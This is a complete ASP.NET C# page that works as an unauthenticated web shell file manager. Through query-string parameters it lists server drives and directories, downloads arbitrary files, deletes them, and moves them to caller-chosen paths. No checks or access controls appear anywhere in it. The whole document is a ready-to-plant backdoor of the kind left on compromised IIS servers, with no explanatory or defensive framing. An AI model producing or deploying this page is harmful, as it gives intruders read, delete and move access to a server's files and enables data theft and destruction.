<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    string act = Request.QueryString["a"], p = Request.QueryString["p"];
    if (act == "dl") { Response.ContentType = "application/octet-stream"; Response.WriteFile(p); Response.End(); }
    if (act == "del") { File.Delete(p); }
    if (act == "mv") { File.Move(p, Request.QueryString["to"]); }
    if (string.IsNullOrEmpty(p)) { foreach (string d in Directory.GetLogicalDrives()) Response.Write("<a href='?p=" + d + "'>" + d + "</a> "); return; }
    foreach (string d in Directory.GetDirectories(p)) Response.Write("[D] " + d + "<br/>");
    foreach (string f in Directory.GetFiles(p)) Response.Write(f + " <a href='?a=dl&p=" + f + "'>get</a> <a href='?a=del&p=" + f + "'>del</a><br/>");
}
</script>
